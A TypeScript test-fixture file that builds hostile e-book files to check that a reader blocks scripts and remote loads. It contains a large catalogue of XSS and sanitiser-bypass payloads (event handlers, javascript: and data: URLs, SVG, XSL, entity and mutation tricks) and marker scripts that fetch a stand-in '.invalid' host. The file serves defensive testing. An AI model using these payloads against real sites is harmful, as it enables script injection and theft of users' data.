import { type BookFile, textFile } from '../bookFile.ts';
import { navigation, plain, sheet, type TrialBook, trialFiles } from './trialBook.ts';

/** The origin that no reader may call; `.invalid` is never a real host (RFC 6761). */
const foreign = 'https://foreign.invalid';

/** Returns a script that leaves a mark on every window it reaches and sends a request. */
const action = (where: string): string =>
  `for(const w of [self,parent,top]){try{w.trialScripts=(w.trialScripts||[]).concat('${where}')}catch(e){}};fetch('${foreign}/ran?${where}')`;

const quoted = (where: string): string => action(where).replaceAll('&', '&amp;').replaceAll('"', '&quot;');

const svgScripts = `<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" width="100" height="100" onload="${quoted('svg-onload')}"><script>${action('svg-script')}</script><script xlink:href="evil.js"/><a xlink:href="javascript:${quoted('svg-link')}"><text y="20" id="svg-link">press</text></a><animate attributeName="href" values="javascript:${quoted('svg-animate')}" onbegin="${quoted('svg-onbegin')}" dur="1s"/><set attributeName="onmouseover" to="${quoted('svg-set')}"/><foreignObject width="50" height="50"><iframe xmlns="http://www.w3.org/1999/xhtml" srcdoc="&lt;script>${quoted('svg-srcdoc')}&lt;/script>"></iframe><body xmlns="http://www.w3.org/1999/xhtml" onload="${quoted('foreign-object')}"/></foreignObject><use href="data:image/svg+xml,&lt;svg id='x' xmlns='http://www.w3.org/2000/svg' onload='${foreign}'/>#x"/></svg>`;

const scripts = sheet(
  [
    '<h1 id="top">Scripts in every place</h1><p id="s1">This page can be read.</p>',
    `<script>${action('inline')}</script><script src="evil.js"></script><script type="module" src="evil.js"></script>`,
    `<img src="missing.png" onerror="${quoted('img-onerror')}" alt=""/><p onclick="${quoted('p-onclick')}" onmouseover="${quoted('p-over')}" onfocus="${quoted('p-focus')}" tabindex="0" id="press">press</p>`,
    `<a id="link" href="javascript:${quoted('link')}">press</a><a id="spaced" href=" java&#10;script:${quoted('spaced-link')}">press</a><a id="data" href="data:text/html,&lt;script>${quoted('data-link')}&lt;/script>">press</a>`,
    `<iframe src="evil.html"></iframe><iframe srcdoc="&lt;script>${quoted('srcdoc')}&lt;/script>"></iframe><object data="evil.html"></object><embed src="evil.html"/>`,
    `<form action="javascript:${quoted('form')}"><button id="send" formaction="javascript:${quoted('formaction')}">send</button></form>`,
    `<video src="missing.mp4" onerror="${quoted('video-onerror')}"></video><details open="open" ontoggle="${quoted('toggle')}"><summary>s</summary></details>`,
    `<math xmlns="http://www.w3.org/1998/Math/MathML"><mtext href="javascript:${quoted('math')}">x</mtext></math>`,
    `<style onload="${quoted('style-onload')}">p { color: inherit }</style><template><script>${action('template')}</script></template><noscript><p>no script</p></noscript>`,
    svgScripts,
  ].join('\n'),
  `<script>${action('head')}</script><link rel="stylesheet" href="missing.css" onerror="${quoted('link-onerror')}"/><base href="${foreign}/"/>`,
);

const evil = (files: Map<string, BookFile>): Map<string, BookFile> =>
  files
    .set('evil.js', textFile('text/javascript', action('file')))
    .set('evil.html', textFile('text/html', `<!DOCTYPE html><script>${action('frame')}</script><script src="evil.js"></script>`));

const remote = sheet(
  [
    '<h1 id="top">Things from elsewhere</h1><p id="s1">This page can be read.</p>',
    `<img src="${foreign}/img.png" srcset="${foreign}/set.png 2x" alt=""/><picture><source srcset="${foreign}/source.png"/><img src="${foreign}/picture.png" alt=""/></picture>`,
    `<video src="${foreign}/video.mp4" poster="${foreign}/poster.png" autoplay="autoplay"></video><audio src="${foreign}/audio.mp3" autoplay="autoplay"></audio><video><track src="${foreign}/track.vtt" default="default"/></video>`,
    `<iframe src="${foreign}/frame.html"></iframe><object data="${foreign}/object.svg"></object><embed src="${foreign}/embed.svg"/>`,
    `<svg xmlns="http://www.w3.org/2000/svg" width="10" height="10"><image href="${foreign}/svg-image.png" width="10" height="10"/><use href="${foreign}/use.svg#a"/><style>rect { fill: url(${foreign}/fill.svg#a) }</style></svg>`,
    `<p style="background: url(${foreign}/style.png); list-style-image: url('${foreign}/list.png')">styled</p><a href="${foreign}/page" ping="${foreign}/ping" id="away">away</a><form action="${foreign}/form" method="post"><button id="send">send</button></form>`,
  ].join('\n'),
  `<link rel="stylesheet" href="${foreign}/sheet.css"/><link rel="preload" as="image" href="${foreign}/preload.png"/><link rel="prefetch" href="${foreign}/prefetch"/><link rel="dns-prefetch" href="${foreign}"/><link rel="preconnect" href="${foreign}"/><link rel="icon" href="${foreign}/icon.png"/><link rel="stylesheet" href="remote.css"/><style>@import url(${foreign}/import.css); @font-face { font-family: F; src: url(${foreign}/font.woff2) } body { font-family: F; background-image: image-set(url(${foreign}/set-image.png) 1x) }</style>`,
);

const remoteCss = `@import "${foreign}/css-import.css"; @font-face { font-family: G; src: url("${foreign}/css-font.woff2") } h1 { font-family: G; background: url(${foreign}/css-background.png); cursor: url(${foreign}/cursor.png), auto; content: url(${foreign}/content.png) } p::before { content: url(${foreign}/before.png) }`;

const readable = '<h1 id="top">In disguise</h1><p id="s1">This page can be read.</p>';
const xhtml = 'http://www.w3.org/1999/xhtml';

/** Pages of unusual structure, each a way to put a script where a policy in the head, or a sanitiser of plain markup, would miss it. */
const disguises: Readonly<Record<string, string>> = {
  'before-head': `<html xmlns="${xhtml}" onclick="${quoted('root-click')}"><p><img src="missing.png" onerror="${quoted('before-head-img')}" alt=""/></p><script>${action('before-head')}</script><head><title>T</title></head><body onload="${quoted('body-load')}">${readable}<head><script>${action('second-head')}</script></head></body></html>`,
  'no-namespace': `<html><head><title>T</title><x:script xmlns:x="${xhtml}">${action('foreign-head')}</x:script></head><body>${readable}<x:script xmlns:x="${xhtml}">${action('no-namespace')}</x:script><x:p xmlns:x="${xhtml}" onclick="${quoted('no-namespace-click')}">press</x:p></body></html>`,
  'other-root': `<div xmlns="${xhtml}" onclick="${quoted('other-root-click')}">${readable}<script>${action('other-root')}</script></div>`,
  entities: `<!DOCTYPE html [<!ENTITY run "<script xmlns='${xhtml}'>${action('entity').replaceAll("'", '&#39;').replaceAll('&', '&#38;')}</script>">]><html xmlns="${xhtml}" xmlns:h="${xhtml}"><head><title>T</title></head><body>${readable}&run;<h:script>${action('prefixed')}</h:script><h:img src="missing.png" onerror="${quoted('prefixed-img')}" alt=""/></body></html>`,
  transform: `<?xml-stylesheet type="text/xsl" href="#xsl"?><html xmlns="${xhtml}"><head><title>T</title></head><body>${readable}<xsl:stylesheet id="xsl" version="1.0" xmlns:xsl="http://www.w3.org/1999/XSL/Transform"><xsl:template match="/"><html xmlns="${xhtml}"><body>${readable}<script>${action('transform')}</script></body></html></xsl:template></xsl:stylesheet></body></html>`,
  malformed: `<html xmlns="${xhtml}"><head><title>T</title></head><body>${readable}<p>not closed<br><noscript><p title="</noscript><img src=x onerror=&quot;${quoted('noscript')}&quot;>"></p></noscript><div><template shadowrootmode="open"><script>${action('shadow')}</script></template></div><math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror='trialScripts=[1]'&gt;"></table></mtext></math><svg><style><img src="x" onerror="${quoted('svg-style')}"></style></svg><a<script>${action('odd-name')}</script></body></html>`,
  starts: sheet(
    `${readable}<input autofocus="autofocus" onfocus="${quoted('autofocus')}"/><p style="animation: grow 1ms" onanimationstart="${quoted('animation')}">moves</p><details open="open" ontoggle="${quoted('open-details')}"><summary>s</summary></details><math xmlns="http://www.w3.org/1998/Math/MathML" href="javascript:${quoted('math-root')}" onclick="${quoted('math-click')}"><mi>x</mi></math>`,
    '<style>@keyframes grow { from { opacity: 0 } }</style>',
  ),
  sheets: sheet(
    `${readable}<p style="background: url(javascript:${quoted('style-url')}); behavior: url(evil.htc); -moz-binding: url(evil.xml#run)">styled</p>`,
    `<link rel="stylesheet" href="evil.css"/><link rel="stylesheet" href="javascript:${quoted('sheet-link')}"/><link rel="modulepreload" href="evil.js"/><link rel="import" href="evil.html"/>`,
  ),
  refreshes: sheet(
    readable,
    `<meta http-equiv="REFRESH" content="0;url=javascript:${quoted('refresh-script')}"/><meta http-equiv="refresh" content="0;url=evil.html"/><meta http-equiv="refresh" content="0;url=data:text/html,&lt;script>${quoted('refresh-data')}&lt;/script>"/>`,
  ),
};

const evilCss = `@import "javascript:${action('import-script')}"; @import url("data:text/css,p%7Bcolor:red%7D"); p { background: url("javascript:${action('css-url')}"); width: expression(${action('expression')}) }`;

/** Books with hostile content. */
export const hostileBooks: readonly TrialBook[] = [
  {
    id: 'trial-scripts',
    description: 'scripts in every place of a page, of an SVG page and of the contents',
    files: () =>
      evil(
        trialFiles(
          'trial-scripts',
          [
            { href: 'page-1.xhtml', text: scripts, attributes: 'properties="scripted svg"' },
            { href: 'drawing.svg', mediaType: 'image/svg+xml', text: svgScripts, attributes: 'properties="scripted"' },
            { href: 'page-2.xhtml', text: plain('The last page') },
          ],
          {
            navigation: sheet(
              `<script>${action('nav')}</script><nav epub:type="toc"><ol><li><a href="page-1.xhtml" onclick="${quoted('nav-click')}">One<img src="x" alt="" onerror="${quoted('nav-img')}"/></a></li><li><a href="page-2.xhtml">Two</a></li></ol></nav>`,
            ),
          },
        ),
      ),
  },
  {
    id: 'trial-remote',
    description: 'style sheets, pictures, videos, fonts and frames from another origin',
    files: () =>
      trialFiles(
        'trial-remote',
        [
          { href: 'page-1.xhtml', text: remote },
          { href: 'page-2.xhtml', text: plain('The last page') },
          { href: 'remote.css', mediaType: 'text/css', text: remoteCss, inSpine: false },
        ],
        {
          manifest: `<item id="far-audio" href="${foreign}/far.mp3" media-type="audio/mpeg"/>`,
          metadata: `<link rel="record" href="${foreign}/record.xml" media-type="application/xml"/>`,
        },
      ),
  },
  {
    id: 'trial-refresh',
    description: 'pages that lead away by themselves: meta refresh, base, frames, targets',
    files: () =>
      evil(
        trialFiles('trial-refresh', [
          {
            href: 'page-1.xhtml',
            text: sheet(
              `<h1 id="top">Away</h1><p id="s1">This page can be read.</p><a id="up" target="_top" href="page-2.xhtml">up</a><a id="out" target="_top" href="${foreign}/">out</a><iframe src="${foreign}/frame"></iframe>`,
              `<meta http-equiv="refresh" content="0; url=${foreign}/refresh"/><base href="${foreign}/" target="_top"/><meta http-equiv="Content-Security-Policy" content="default-src *"/><meta http-equiv="set-cookie" content="trial=1"/>`,
            ),
          },
          {
            href: 'page-2.xhtml',
            text: sheet(
              '<h1 id="top">Again</h1><p id="s1">This page can be read.</p>',
              `<meta http-equiv="Refresh" content="1;URL='javascript:${quoted('refresh')}'"/>`,
            ),
          },
          { href: 'page-3.xhtml', text: sheet('<frameset><frame src="evil.html"/></frameset><p id="s1">This page can be read.</p>') },
        ]),
      ),
  },
  {
    id: 'trial-disguises',
    description: 'scripts in pages of unusual structure: before the head, without a namespace, in entities, transformed, malformed',
    files: () =>
      evil(
        trialFiles(
          'trial-disguises',
          Object.entries(disguises).map(([name, text]) => ({ href: `${name}.xhtml`, text, attributes: 'properties="scripted"' })),
        ),
      ).set('evil.css', textFile('text/css', evilCss)),
  },
  {
    id: 'trial-navigation',
    description: 'contents that lead to scripts, to other origins and out of the book',
    files: () =>
      trialFiles(
        'trial-navigation',
        [
          { href: 'page-1.xhtml', text: plain('The first page') },
          { href: 'page-2.xhtml', text: plain('The second page') },
        ],
        {
          navigation: navigation([
            ['page-1.xhtml', 'A page'],
            [`javascript:${quoted('nav-javascript')}`, 'A script'],
            [` java&#9;script:${quoted('nav-tab')}`, 'A script with a tab'],
            [`data:text/html,&lt;script>${quoted('nav-data')}&lt;/script>`, 'Data'],
            [`${foreign}/`, 'Another origin'],
            ['//foreign.invalid/', 'Another origin without a scheme'],
            ['../../../library/v1/books', 'Out of the book'],
            ['nothing.xhtml', 'A page that is not in the book'],
            ['page-2.xhtml#nowhere', '&lt;img src=x onerror=alert(1)> The second page'],
          ]),
        },
      ),
  },
];
